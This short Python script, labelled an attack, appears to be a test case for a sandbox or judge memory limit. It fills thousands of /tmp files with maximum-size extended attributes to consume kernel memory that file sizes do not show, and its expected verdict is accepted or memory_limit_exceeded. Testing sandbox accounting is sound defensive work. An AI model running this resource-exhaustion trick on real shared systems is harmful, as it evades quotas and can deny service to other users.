# Attack: extended attributes of the largest size on thousands of files: memory of the kernel that no size of a file shows.
# Verdict: accepted or memory_limit_exceeded
import os

stored = 0
for i in range(4000):
    path = f'/tmp/{i}'
    try:
        open(path, 'x').close()
        for name in range(8):
            os.setxattr(path, f'user.{name}', b'x' * 65_000)
            stored += 65_000
    except OSError:
        pass
print('unharmed' if stored <= 128 << 20 else f'stored {stored} bytes,', input())
